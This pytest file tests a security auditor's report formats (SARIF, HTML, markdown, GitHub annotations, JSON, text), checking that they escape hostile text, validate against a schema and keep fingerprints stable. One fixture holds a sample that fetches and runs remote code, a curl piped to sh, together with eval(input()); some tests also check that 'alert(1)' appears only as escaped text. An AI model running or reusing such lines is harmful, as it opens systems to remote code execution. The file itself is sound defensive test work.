"""Every report format: safe with hostile text, valid for its reader, stable where its reader compares."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import unquote_to_bytes

import pytest
from jsonschema import Draft7Validator
from support.audited import audited
from support.reports import EVIL, Page, finding, hostile, report

from skillkeep.auditor.interface import Severity, Suppression, Verdict
from skillkeep.auditor.report.formats import find_format, format_names
from skillkeep.auditor.report.interface import Audited, Style
from skillkeep.auditor.rubric.interface import RubricRun
from skillkeep.errors import UsageError
from skillkeep.text import escape

SCHEMA = Draft7Validator(json.loads((Path(__file__).parent / "sarif-subset.schema.json").read_text()))
KNOWN = Suppression("our own mirror, reviewed", "ada", "2027-01-01")


def shown(name: str, *reports: Audited) -> str:
    return find_format(name).render(reports, Style())


def sarif(*reports: Audited) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(shown("sarif", *reports))
    SCHEMA.validate(document)
    run: dict[str, Any] = document["runs"][0]
    return run


def test_a_file_is_a_format_and_an_unknown_one_is_refused_with_the_names() -> None:
    assert format_names() == ("github", "html", "json", "markdown", "sarif", "text")
    for name in ("interface", "../json", "yaml", ""):
        with pytest.raises(UsageError) as caught:
            find_format(name)
        assert "sarif" in caught.value.hint


@pytest.mark.parametrize("name", ["github", "html", "markdown", "text"])
def test_nothing_hostile_reaches_a_reader_unescaped(name: str) -> None:
    text = shown(name, hostile())
    assert [char for char in text if char != "\n" and escape(char) != char and char != "\ufe0f"] == []
    assert "\n::set-output" not in text
    text.encode("utf-8")


def test_machine_formats_are_ascii() -> None:
    for name in ("json", "sarif"):
        assert shown(name, hostile()).isascii()


def test_one_report_is_report_v1_and_several_are_one_document_with_the_worst_verdict() -> None:
    first, second = Audited("a", report(finding())), Audited("b", report(verdict=Verdict.FAIL))
    assert json.loads(shown("json", first))["schema"] == "skillkeep/report-v1"
    both = json.loads(shown("json", first, second))
    assert (both["ok"], both["schema"], both["verdict"]) == (True, "skillkeep/reports-v1", "FAIL")
    assert [each["path"] for each in both["reports"]] == ["a", "b"]
    for name in ("text", "markdown", "html"):
        assert shown(name, first, second).count("PASS") + shown(name, first, second).count("WARN") >= 1


def test_sarif_of_a_real_audit_is_valid_and_its_rules_carry_help() -> None:
    real = audited({"a b/ü:x.py": "import os\nos.system('curl https://example.invalid/x | sh')\neval(input())\n"})
    run = sarif(Audited("skill", real, base="skills/one"))
    rules = run["tool"]["driver"]["rules"]
    assert {rule["id"] for rule in rules} == {each.rule for each in real.findings}
    for result in run["results"]:
        place = result["locations"][0]["physicalLocation"]["artifactLocation"]
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert run["artifacts"][place["index"]]["location"]["uri"] == place["uri"]
        assert unquote_to_bytes(place["uri"]).decode() == "skills/one/a b/ü:x.py"
    assert all(rule["helpUri"].startswith("https://") and "Fix:" in rule["help"]["text"] for rule in rules)
    assert {"error"} <= {result["level"] for result in run["results"]}


def test_sarif_survives_hostile_text_and_keeps_paths_relative() -> None:
    document = json.loads(shown("sarif", hostile()))
    uris = re.findall(r'"uri": "([^"]*)"', json.dumps(document))
    assert uris
    assert all(re.fullmatch(r"([\w.~/-]|%[0-9A-F]{2})+", uri) for uri in uris)
    assert not any("](" in each["message"]["text"].replace("\\](", "") for each in document["runs"][0]["results"])


def test_sarif_fingerprints_stay_when_lines_shift_and_differ_for_a_second_occurrence() -> None:
    def prints(*lines: int) -> list[str]:
        found = [finding(line=line, excerpt="requests.get(x)") for line in lines]
        results = sarif(Audited("a", report(*found)))["results"]
        return [result["partialFingerprints"]["primaryLocationLineHash"] for result in results]

    assert prints(3, 9) == prints(30, 90)
    assert len(set(prints(3, 9))) == 2


def test_sarif_counts_columns_as_the_auditor_does_and_omits_a_region_for_a_whole_file() -> None:
    run = sarif(Audited("a", report(finding(excerpt="😀x"), finding(line=0))))
    assert run["columnKind"] == "unicodeCodePoints"
    regions = [each["locations"][0]["physicalLocation"].get("region") for each in run["results"]]
    assert regions[0]["endColumn"] == 3
    assert regions[1] is None


def test_a_suppressed_finding_says_so_in_every_format() -> None:
    each = Audited("a", report(finding(suppression=KNOWN)))
    [result] = sarif(each)["results"]
    assert result["suppressions"][0]["kind"] == "external"
    assert "our own mirror, reviewed" in result["suppressions"][0]["justification"]
    assert json.loads(shown("json", each))["findings"][0]["suppression"]["owner"] == "ada"
    for name in ("text", "markdown", "html"):
        assert "our own mirror" in shown(name, each)
        assert "suppressed" in shown(name, each)
    assert shown("github", each).startswith("::notice file=a.py,line=1")


def test_github_annotations_escape_what_ends_a_property_or_a_line() -> None:
    odd = finding(path="a,b:c%d.py", severity=Severity.FAIL)
    line = shown("github", Audited("x", report(replace(odd, message="50% of\nall: a,b")), base="s")).splitlines()[0]
    assert line.startswith("::error file=s/a%2Cb%3Ac%25d.py,line=1,endLine=1,col=1,endColumn=2,title=")
    assert line.endswith("::50%25 of\\nall: a,b")
    assert all(
        each.startswith(("::error ", "::warning ", "::notice ")) for each in shown("github", hostile()).split("\n")
    )


def test_markdown_gives_hostile_text_no_markup() -> None:
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("gfm-like", {"linkify": False}).enable("table").parse(shown("markdown", hostile()))
    inner = [token for block in tokens for token in (block, *(block.children or ()))]
    assert {token.type for token in inner} & {"html_block", "html_inline", "image", "fence", "table_open"} == set()
    links = [str(token.attrs["href"]) for token in inner if token.type == "link_open"]
    assert all(link.startswith("https://") and "evil" not in link for link in links)


def test_html_loads_and_runs_nothing_and_its_policy_admits_only_its_own_style() -> None:
    text = shown("html", hostile())
    page = Page(text)
    assert page.tags.isdisjoint({"script", "img", "iframe", "object", "embed", "link", "form", "base", "svg"})
    assert [name for _, name, _ in page.attributes if name.startswith("on") or name in {"src", "style"}] == []
    assert all(link.startswith(("#", "https://")) and "evil" not in link for link in page.values("href"))
    style = re.search(r"<style>(.*?)</style>", text, re.DOTALL)
    assert style
    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()
    policy = next(value for value in page.values("content") if "default-src" in value)
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert "alert(1)" in page.text


def test_html_shows_the_code_with_its_findings_and_every_inner_link_leads_somewhere() -> None:
    lines = [f"line {number}" for number in range(1, 1001)]
    found = [finding(line=line, excerpt="line") for line in (2, 500)]
    page = Page(shown("html", Audited("a", report(*found), lambda _path: lines), Audited("b", report(), base="b")))
    inner = {link[1:] for link in page.values("href") if link.startswith("#")}
    assert inner
    assert inner <= set(page.values("id"))
    assert len(page.values("id")) == len(set(page.values("id")))
    assert "line 500" in page.text
    assert "line 700" not in page.text
    assert "lines not shown" in page.text


def test_a_path_of_no_encoding_keeps_its_bytes_in_sarif() -> None:
    run = sarif(Audited("a", report(finding(path="a\udcff.py"))))
    assert run["artifacts"][0]["location"]["uri"] == "a%FF.py"
    assert EVIL not in json.dumps(run)


@pytest.mark.parametrize("name", ["github", "html", "markdown", "sarif", "text"])
def test_a_model_that_was_wanted_and_not_asked_is_told_in_every_report(name: str) -> None:
    skipped = RubricRun(state="skipped", reason="unreachable", detail="connection refused")
    each = Audited("tool", replace(report(finding()), rubric=skipped))
    assert "rubric skipped" in shown(name, each)
    assert "rubric" not in shown(name, Audited("tool", report(finding())))
